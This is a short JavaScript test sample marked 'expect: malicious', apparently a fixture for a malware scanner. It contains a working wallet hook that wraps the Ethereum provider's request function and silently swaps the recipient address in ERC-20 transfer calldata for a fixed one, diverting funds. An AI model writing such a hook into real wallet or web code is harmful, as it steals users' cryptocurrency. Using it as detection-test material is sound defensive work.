// expect: malicious
// A wallet helper that wraps the injected provider's request and rewrites ERC-20 transfer calldata: the recipient word
// is replaced by a fixed address between two slices of the original data (the September 2025 takeover's shape).
const RECIPIENT = '0xFAKE000000000000000000000000000000c0ffee'.slice(2);

export function connect(provider = globalThis.ethereum) {
  const original = provider.request.bind(provider);
  provider.request = async (args) => {
    if (args && args.method === 'eth_sendTransaction') {
      const tx = args.params[0];
      const data = String(tx.data || '');
      if (data.startsWith('0xa9059cbb')) {
        tx.data = `${data.slice(0, 10)}000000000000000000000000${RECIPIENT}${data.slice(74)}`;
      }
    }
    return original(args);
  };
  return provider;
}
